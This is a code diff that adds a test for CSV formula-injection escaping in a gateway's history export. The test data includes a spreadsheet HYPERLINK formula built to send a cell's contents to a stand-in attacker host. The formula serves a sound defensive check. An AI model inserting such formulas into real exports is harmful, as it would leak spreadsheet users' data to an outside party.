@@ -171,6 +171,24 @@ def test_csv_export_of_the_filtered_set_with_impact_columns(erin):
     )
 
 
+def test_csv_export_quotes_text_a_spreadsheet_would_run_and_keeps_numbers(tmp_path):
+    formula = '=HYPERLINK("http://attacker.example/?leak="&A1,"click for details")'
+    rec = record(station="st-x", core_id="X1", family="+SUM(A1:A9)", part_number="@cmd")
+    rec = overridden(rec, 3, user="-eve", reason=formula, impact=(0.0, -0.4))
+    store = Store(tmp_path / "gateway.db")
+    store.write(Batch(inspections=[rec]))
+    with Gateway(make_config(tmp_path), store=store, mqtt=False) as gw:
+        resp = login(gw.url, "erin").get("/history.csv")
+    [row] = csv.DictReader(io.StringIO(resp.text))
+    assert row["override_reason"] == "'" + formula
+    assert (row["override_user"], row["family"], row["part_number"]) == (
+        "'-eve",
+        "'+SUM(A1:A9)",
+        "'@cmd",
+    )
+    assert (row["co2e_avoided_kg"], row["effective_code"], row["core_id"]) == ("-0.4", "3", "X1")
+
+
 def test_operator_may_not_export(api):
     olly = login(api.url, "olly")
     assert olly.get("/history.csv").status_code == 403
